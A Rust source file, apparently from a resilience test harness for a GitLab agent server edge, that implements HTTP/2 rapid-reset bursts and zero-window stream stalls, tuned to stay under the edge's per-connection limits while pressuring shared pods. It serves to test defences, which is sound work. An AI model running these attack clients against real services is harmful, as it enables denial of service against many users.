//! Attacks on what agents share through the edge: its HTTP/2 connections to the pods,
//! which carry every `grpcs://` agent's streams. Whatever one client makes a pod do to
//! such a connection it does to every agent on it, so these attackers stay within every
//! limit the edge puts on one connection and aim at the pods' limits instead; the fleet
//! (some of it on `grpcs://`, on the same pods) must not notice.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use h2::Reason;
use hdrhistogram::Histogram;
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio::time::{sleep, sleep_until, timeout, Instant};
use tokio_util::sync::CancellationToken;

use kas_proto::diagnostics::diagnostics_client::DiagnosticsClient;
use kas_proto::diagnostics::PingRequest;

use super::{join_bounded, AttackEnv, Shared, KINDS};
use crate::agent::{authed, receiver_stream};
use crate::report::AttackSummary;
use crate::transport::Transport;

/// Streams per burst: the most the edge lets one connection reset before it accepted
/// them, and the most a pod (h2's default, kas) lets one of its connections have reset
/// while waiting in its accept queue.
const BURST: usize = 20;
/// One burst from every client at once, this often: 4 bursts (80 cancels) per 10 s, under
/// the edge's 100 cancels per connection per 10 s.
const PERIOD: Duration = Duration::from_millis(2500);
/// In every other round the resets follow their streams' HEADERS after this, when the
/// edge has forwarded the streams to a pod; in the others they share the write.
const GAP: Duration = Duration::from_millis(2);
/// Streams a zero-window reader over its share holds (the edge cuts a connection with
/// more than 8 stalled streams) and the size of the Echo messages they send.
const OVER_SHARE: usize = 16;
const MESSAGE: usize = 128 * 1024;

/// HTTP/2 clients, one source address each, that open `GetConfiguration` streams (no
/// token needed) and reset them at once, all clients in the same instant, in rounds:
/// resets in the write that opened the streams, and resets a moment after the edge
/// forwarded them. Each stays within the edge's limits, so none is cut; no reset may reach
/// a pod in a way that makes it close a connection the fleet uses.
pub(super) async fn reset_burst(env: Arc<AttackEnv>) -> (AttackSummary, Histogram<u64>) {
    // Every client's rounds count from the same instant.
    let begin = Instant::now();
    let clients = env.sizing.reset_clients;
    run_clients(env, 7, clients, move |env, tally, i| async move {
        reset_client(&env, &tally, i, begin).await
    })
    .await
}

/// Runs `client` for `n` clients of attack `kind` (an index into [`KINDS`]) at once,
/// counting how each failed, until they end or the stop; the attack's summary.
async fn run_clients<F, Fut>(
    env: Arc<AttackEnv>,
    kind: usize,
    n: usize,
    client: F,
) -> (AttackSummary, Histogram<u64>)
where
    F: Fn(Arc<AttackEnv>, Shared, usize) -> Fut,
    Fut: std::future::Future<Output = Result<(), (&'static str, anyhow::Error)>> + Send + 'static,
{
    let tally = Shared::default();
    let begin = Instant::now();
    let mut set = JoinSet::new();
    for i in 0..n {
        let run = client(env.clone(), tally.clone(), i);
        let tally = tally.clone();
        set.spawn(async move {
            tally.attempt();
            if let Err((stage, e)) = run.await {
                tally.error(stage, &e);
            }
        });
    }
    join_bounded(set, &env.stop).await;
    tally.finish(KINDS[kind], n, begin.elapsed())
}

/// A task that drives an HTTP/2 connection, and a token cancelled when it ends.
fn drive<F>(conn: F) -> (tokio::task::JoinHandle<()>, CancellationToken)
where
    F: std::future::Future + Send + 'static,
{
    let ended = CancellationToken::new();
    let done = ended.clone();
    let task = tokio::spawn(async move {
        conn.await;
        done.cancel();
    });
    (task, ended)
}

async fn reset_client(
    env: &AttackEnv,
    tally: &Shared,
    i: usize,
    begin: Instant,
) -> Result<(), (&'static str, anyhow::Error)> {
    let source = env.source(7, i).map_err(|e| ("source", e))?;
    let tls = env.tls(source, true).await?;
    let (send, conn) = timeout(env.handshake_timeout, h2::client::handshake(tls))
        .await
        .map_err(|_| ("timeout", anyhow::anyhow!("no HTTP/2 handshake in time")))?
        .map_err(|e| ("http2", e.into()))?;
    let (task, closed) = drive(conn);
    let mut send = send.ready().await.map_err(|e| ("http2", e.into()))?;
    // One stream held open all along (its request never ends, so kas never answers), as
    // an attacker keeps its connection past the edge's idle deadlines between bursts.
    let held = configuration_request(&env.host)
        .and_then(|request| Ok(send.send_request(request, false)?))
        .map_err(|e| ("http2", e))?;
    tally.established();
    let t0 = Instant::now();
    // Bounded by count (an hour of rounds) as well as by the stop and the edge's close.
    for round in 1..=1440u32 {
        tokio::select! {
            _ = sleep_until(begin + PERIOD * round) => {}
            _ = env.stop.cancelled() => break,
            _ = closed.cancelled() => break,
        }
        let gap = (round % 2 == 0).then_some(GAP);
        let reset = burst(&mut send, &env.host, gap).await;
        tally.responses("streams reset", reset as u64);
    }
    tally.ended(closed.is_cancelled(), t0);
    drop(held);
    task.abort();
    Ok(())
}

/// A `GetConfiguration` stream's head, without a token.
fn configuration_request(host: &str) -> anyhow::Result<http::Request<()>> {
    let uri = format!(
        "https://{host}/gitlab.agent.agent_configuration.rpc.AgentConfiguration/GetConfiguration"
    );
    Ok(http::Request::builder()
        .method("POST")
        .uri(uri)
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())?)
}

/// Opens [`BURST`] configuration streams and resets each: in the write that opens it, or
/// all of them after `gap`. Returns how many were reset.
async fn burst(send: &mut SendRequest<Bytes>, host: &str, gap: Option<Duration>) -> usize {
    let mut opened = Vec::with_capacity(BURST);
    for _ in 0..BURST {
        let Ok(request) = configuration_request(host) else {
            break;
        };
        let Ok((response, mut stream)) = send.send_request(request, false) else {
            break;
        };
        if gap.is_none() {
            stream.send_reset(Reason::CANCEL);
        }
        opened.push((response, stream));
    }
    if let Some(gap) = gap {
        sleep(gap).await;
        for (_, stream) in &mut opened {
            stream.send_reset(Reason::CANCEL);
        }
    }
    opened.len()
}

/// HTTP/2 clients, one source address each, whose streams grant the edge no window: they
/// open Echo streams (authenticated) and send on them without ever reading an answer.
/// Every answer waits at the edge, and once those back up into the pod, the pod stops
/// reading the stream too. Even-numbered clients hold [`OVER_SHARE`] such streams (the
/// edge closes them, after 10 s), odd ones one (within their share: held to the end).
/// `bytes_held` counts what they sent, none of which came back.
pub(super) async fn zero_window(env: Arc<AttackEnv>) -> (AttackSummary, Histogram<u64>) {
    let clients = env.sizing.zero_window;
    run_clients(env, 8, clients, |env, tally, i| async move {
        let streams = if i % 2 == 0 { OVER_SHARE } else { 1 };
        zero_window_client(&env, &tally, i, streams).await
    })
    .await
}

async fn zero_window_client(
    env: &AttackEnv,
    tally: &Shared,
    i: usize,
    streams: usize,
) -> Result<(), (&'static str, anyhow::Error)> {
    let source = env.source(8, i).map_err(|e| ("source", e))?;
    let connecting = env
        .zero_window
        .connect(&env.target, Transport::Grpc, Some(source.into()));
    let (grpc, conn) = match timeout(env.handshake_timeout, connecting).await {
        Ok(Ok(pair)) => pair,
        Ok(Err(e)) => return Err((e.stage, e.error)),
        Err(_) => return Err(("timeout", anyhow::anyhow!("no HTTP/2 within the timeout"))),
    };
    let (task, closed) = drive(conn);
    let mut held = Vec::with_capacity(streams);
    for _ in 0..streams {
        let mut echo = DiagnosticsClient::with_origin(grpc.service.clone(), grpc.origin.clone());
        let (tx, rx) = mpsc::channel::<PingRequest>(1);
        let opening = echo.echo(authed(&env.token, receiver_stream(rx)));
        match timeout(env.handshake_timeout, opening).await {
            // The answers are held, never read.
            Ok(Ok(answers)) => held.push((answers, tx)),
            Ok(Err(status)) => {
                task.abort();
                return Err(("echo", anyhow::anyhow!("{status}")));
            }
            Err(_) => {
                task.abort();
                return Err(("echo", anyhow::anyhow!("no Echo stream in time")));
            }
        }
    }
    tally.established();
    let t0 = Instant::now();
    let payload = Bytes::from(vec![b'z'; MESSAGE]);
    let sent = AtomicU64::new(0);
    // Each stream sends until its windows are full (bounded by count: 8 MiB a stream).
    let feeds = held.iter().map(|(_, tx)| {
        let (tx, payload, sent) = (tx.clone(), payload.clone(), &sent);
        async move {
            for _ in 0..64 {
                let ping = PingRequest {
                    payload: payload.to_vec(),
                };
                if tx.send(ping).await.is_err() {
                    break;
                }
                sent.fetch_add(MESSAGE as u64, Ordering::Relaxed);
            }
        }
    });
    let feeding = async {
        futures_util::future::join_all(feeds).await;
        std::future::pending::<()>().await
    };
    tokio::select! {
        _ = feeding => {}
        _ = closed.cancelled() => {}
        _ = env.stop.cancelled() => {}
    }
    tally.with(|t| t.bytes_held += sent.load(Ordering::Relaxed));
    tally.ended(closed.is_cancelled(), t0);
    drop(held);
    task.abort();
    Ok(())
}
